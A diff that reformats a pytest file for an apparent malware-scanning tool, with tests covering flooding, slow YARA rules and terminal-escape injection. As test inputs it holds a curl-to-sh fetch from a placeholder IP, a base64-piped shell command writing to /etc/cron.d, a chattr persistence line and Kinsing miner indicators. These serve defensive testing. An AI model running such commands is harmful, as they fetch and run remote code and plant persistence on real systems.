@@ -1,4 +1,4 @@
-"""Contents that are made to crash, stall or flood the examination: it answers, in bounds, and says what it lost."""
+"""Contents made to crash, stall or flood the examination: it answers, in bounds, and says what it lost."""
 
 from __future__ import annotations
 
@@ -71,7 +71,9 @@ def test_a_flood_of_what_is_searched_for(impatient: Examination, name: str) -> N
     assert all(len(match.strings) <= Limits().evidence_per_finding for match in facts.matches)
 
 
-@pytest.mark.parametrize("filler", [b"# words\n", b"\n", b" \n;\n", b"=\n", b"1 1 1 1 ", b"import ", b"\t", b"a" * 70 + b"\n"])
+@pytest.mark.parametrize(
+    "filler", [b"# words\n", b"\n", b" \n;\n", b"=\n", b"1 1 1 1 ", b"import ", b"\t", b"a" * 70 + b"\n"]
+)
 def test_a_long_start_does_not_stall_the_guess_of_the_language(impatient: Examination, filler: bytes) -> None:
     started = time.process_time()
     facts = impatient.examine(filler * (MIB // len(filler)) + b"chattr +i /etc/cron.d/x\n", "")
@@ -125,7 +127,9 @@ def test_sections_that_all_are_the_whole_file(examination: Examination) -> None:
 
 def test_nothing_shown_can_steer_a_terminal(examination: Examination) -> None:
     hostile = "\x1b]52;c;aGk=\x07\x9b31m\u202e\u200b"
-    script = f"#!/bin/sh {hostile}\ncurl -s http://203.0.113.9/{hostile}x | sh\n".encode("utf-8", "surrogateescape")
+    script = f"#!/bin/sh {hostile}\ncurl -s http://203.0.113.9/{hostile}x | sh\n".encode(
+        "utf-8", "surrogateescape"
+    )
     hidden = base64.b64encode(f"echo {hostile} > /etc/cron.d/x\n".encode())
     facts = examination.examine(script + b"echo " + hidden + b" | base64 -d | sh\n", "")
     elf = ElfObject(sections=[(f".te{hostile}xt", 1, 6, 0, b"\x90", 0, 0)]).build()
@@ -137,7 +141,9 @@ def test_nothing_shown_can_steer_a_terminal(examination: Examination) -> None:
 
 
 def test_a_broken_object_is_an_issue_and_still_scanned(examination: Examination) -> None:
-    facts = examination.examine(b"\x7fELF\x09\x09 UPX! /tmp/kdevtmpfsi main.masscan main.redisBrute main.RC4", "")
+    facts = examination.examine(
+        b"\x7fELF\x09\x09 UPX! /tmp/kdevtmpfsi main.masscan main.redisBrute main.RC4", ""
+    )
     assert facts.elf is None
     assert [issue.code for issue in facts.issues] == ["not-parsed"]
     assert {"defense-evasion/upx-packed", "indicators/kinsing"} <= {match.rule_id for match in facts.matches}
@@ -154,7 +160,8 @@ def test_what_lies_beyond_the_limit_is_lost_aloud() -> None:
 def test_signatures_that_take_too_long_are_stopped(tmp_path: Path) -> None:
     slow = tmp_path / "slow.yar"
     slow.write_text(
-        "rule slow { condition: for all a in (0..filesize - 1) : (for all b in (0..filesize - 1) : (uint8(a) == uint8(b))) }"
+        "rule slow { condition: for all a in (0..filesize - 1) :"
+        " (for all b in (0..filesize - 1) : (uint8(a) == uint8(b))) }"
     )
     examination = Examination(load_signatures([slow]), Limits(match_seconds=1))
     content = bytes(200_000)
@@ -167,7 +174,8 @@ def test_signatures_that_take_too_long_are_stopped(tmp_path: Path) -> None:
 def test_after_a_timeout_scripts_are_still_read(tmp_path: Path) -> None:
     slow = tmp_path / "slow.yar"
     slow.write_text(
-        "rule slow { condition: for all a in (0..100000) : (for all b in (0..100000) : (a + b >= uint8(0) - 300)) }"
+        "rule slow { condition: for all a in (0..100000) :"
+        " (for all b in (0..100000) : (a + b >= uint8(0) - 300)) }"
     )
     examination = Examination(load_signatures([slow]), Limits(match_seconds=1))
     facts = examination.examine(b"#!/bin/sh\nchattr +i /etc/cron.d/x\n", "")
